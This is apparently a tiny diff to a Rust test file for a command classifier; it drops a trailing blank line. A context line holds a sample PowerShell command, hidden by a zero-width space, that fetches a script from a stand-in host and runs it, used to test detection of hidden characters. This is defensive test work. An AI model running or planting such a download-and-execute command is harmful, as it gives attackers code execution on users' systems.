@@ -98,4 +98,3 @@ fn a_huge_run_box_list_or_entry_is_read_within_bounds_and_stays_quiet_on_text() 
     let hidden = "powershell\u{200B} -c \"irm https://a.example | iex\"\\1";
     assert!(classify(hidden).signs.contains("hidden-characters"));
 }
-
